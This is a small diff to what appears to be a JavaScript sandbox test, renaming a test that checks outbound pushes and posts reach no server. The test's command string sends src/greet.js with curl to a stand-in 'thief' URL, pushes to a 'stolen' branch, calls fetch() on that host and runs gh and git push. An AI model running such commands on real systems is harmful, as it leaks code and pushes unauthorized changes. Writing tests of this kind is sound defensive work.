@@ -46,7 +46,7 @@ describe
       expect(evaluation.secrets.length).toBeGreaterThan(2)
     })
 
-    test('pushes, posts and calls gh reaches nobody', async () => {
+    test('pushes, posts and calls gh reaches no server', async () => {
       const send = sh(
         `curl -sS -m 5 -d @src/greet.js ${thiefUrl()}/greet; git push ${evaluation.github.url}/acme/sends HEAD:refs/heads/stolen; ` +
           `node -e "fetch('${thiefUrl()}/fetch').catch((error) => console.log(error.message))"; gh pr create --fill; git push origin HEAD:main`,
